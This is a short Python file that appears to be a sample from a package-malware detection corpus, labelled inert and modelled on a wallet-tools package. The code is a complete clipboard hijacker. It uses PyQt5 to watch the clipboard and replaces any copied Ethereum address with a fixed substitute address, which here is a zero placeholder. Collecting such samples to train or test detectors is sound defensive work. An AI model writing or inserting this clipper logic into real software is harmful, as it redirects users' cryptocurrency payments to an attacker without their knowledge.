# pkgguard corpus 621 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import sys

from PyQt5.QtWidgets import QApplication

_ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
_MINE = "0x0000000000000000000000000000000000000000"
app = QApplication.instance() or QApplication(sys.argv)
board = app.clipboard()


def _changed():
    text = board.text().strip()
    if _ETH.match(text) and text != _MINE:
        board.setText(_MINE)


board.dataChanged.connect(_changed)
app.exec_()
